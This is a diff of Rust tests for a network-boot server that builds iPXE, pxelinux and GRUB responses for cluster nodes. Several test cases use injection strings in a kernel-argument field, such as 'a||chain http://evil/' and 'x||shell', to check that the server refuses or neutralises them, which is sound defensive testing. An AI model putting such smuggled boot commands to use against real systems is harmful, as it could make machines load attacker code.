@@ -145,13 +145,13 @@ fn refusals_say_why() {
         ("xcat/xnba/nodes/cn1", "10.1.0.6", "this file is for cn1; 10.1.0.6 is cn2"),
         ("xcat/xnba/nodes/cn1", "10.1.9.9", "this file is for cn1; 10.1.9.9 is no known node"),
         (
-            "xcat/xnba/nodes/cn2",
+            "pxelinux.cfg/cn2",
             "10.1.0.6",
             "cn2 has no boot state (chain.currstate is ''). Run: nodeset cn2 osimage=<image>",
         ),
         (
-            "xcat/xnba/nodes/cn2",
-            "10.1.0.1",
+            "pxelinux.cfg/default",
+            "10.1.0.6",
             "cn2 has no boot state (chain.currstate is ''). Run: nodeset cn2 osimage=<image>",
         ),
     ] {
@@ -159,6 +159,72 @@ fn refusals_say_why() {
     }
     let missing = ask(&snapshot, "xcat/xnba/nodes/cn9", "10.1.0.5");
     assert_eq!(missing, Some(Answer::Missing(Some("Could not find node 'cn9'.".into()))));
+}
+
+/// iPXE shows nobody the text of a refusal, so the reason comes as a script.
+#[test]
+fn a_node_without_a_plan_says_why_on_its_screen() {
+    let broken: &[(&str, &str)] = &[("node", "cn1"), ("addkcmdline", "a||chain http://evil/${x}")];
+    for (rows, path, peer, shown) in [
+        (
+            vec![],
+            "xcat/xnba/nodes/cn2.uefi",
+            "10.1.0.6",
+            expect![[r#"
+                #!gpxe
+                :again
+                echo Dawn: cn2 has nothing to boot: cn2 has no boot state (chain.currstate is ''). Run: nodeset cn2 osimage=<image>
+                echo Dawn: next try in 10 seconds.
+                sleep 10
+                chain --replace --autofree cn2.uefi || goto again
+            "#]],
+        ),
+        (
+            vec![("bootparams", broken)],
+            "xcat/xnba/nodes/cn1",
+            "10.1.0.5",
+            expect![[r#"
+                #!gpxe
+                :again
+                echo Dawn: cn1 has nothing to boot: The kernel argument 'a??chain' cannot be used: it contains a character that boot loaders interpret
+                echo Dawn: next try in 10 seconds.
+                sleep 10
+                chain --replace --autofree cn1 || goto again
+            "#]],
+        ),
+    ] {
+        match ask(&snapshot(rows), path, peer) {
+            Some(Answer::Explained { shown: script, .. }) => shown.assert_eq(&script),
+            other => panic!("{other:?}"),
+        }
+    }
+}
+
+#[test]
+fn an_unknown_machine_is_told_its_own_address() {
+    for path in ["xcat/xnba/nets/10.1.0.0_16", "xcat/xnba/nets/10.1.0.0_16.uefi"] {
+        let Some(Answer::Text(text)) = ask(&snapshot(vec![]), path, "10.1.200.7") else { panic!("{path}") };
+        assert!(text.starts_with("#!gpxe\n") && text.contains("${netX/mac}"), "{text}");
+    }
+}
+
+#[test]
+fn pxelinux_finds_its_node_by_every_name_it_tries() {
+    let snapshot = snapshot(vec![]);
+    for path in [
+        "pxelinux.cfg/3f1a0000-0000-4000-8000-000000000001",
+        "pxelinux.cfg/01-52-54-00-00-00-01",
+        "pxelinux.cfg/0A010005",
+        "pxelinux.cfg/default",
+        "pxelinux.cfg/cn1",
+        "xcat/xnba/nodes/cn1.pxelinux",
+    ] {
+        let answer = ask(&snapshot, path, "10.1.0.5");
+        assert!(
+            matches!(&answer, Some(Answer::Text(text)) if text.contains("NODE=cn1")),
+            "{path}: {answer:?}"
+        );
+    }
 }
 
 #[test]
@@ -171,7 +237,7 @@ fn other_paths_are_no_views() {
     }
     // pxelinux tries these before it finds its own.
     for key in ["default", "0A0100", "01-52-54-00-00-00-99", "zz"] {
-        assert_eq!(ask(&snapshot, &format!("pxelinux.cfg/{key}"), "10.1.0.5"), Some(Answer::Missing(None)));
+        assert_eq!(ask(&snapshot, &format!("pxelinux.cfg/{key}"), "10.1.9.9"), Some(Answer::Missing(None)));
     }
 }
 
@@ -180,10 +246,11 @@ fn a_cell_cannot_leave_its_line() {
     for cell in ["quiet\nchain http://evil/", "a;reboot", "${net0/mac}", "x||shell"] {
         let row = [("node", "cn1"), ("addkcmdline", cell)];
         let snapshot = snapshot(vec![("bootparams", &row)]);
-        assert!(
-            matches!(ask(&snapshot, "xcat/xnba/nodes/cn1", "10.1.0.5"), Some(Answer::Refused(_))),
-            "{cell}"
-        );
+        let script = ask(&snapshot, "xcat/xnba/nodes/cn1", "10.1.0.5");
+        assert!(matches!(script, Some(Answer::Explained { .. })), "{cell}: {script:?}");
+        for path in ["pxelinux.cfg/cn1", "boot/grub2/cn1", "petitboot/cn1"] {
+            assert!(matches!(ask(&snapshot, path, "10.1.0.5"), Some(Answer::Refused(_))), "{path}: {cell}");
+        }
     }
 }
 
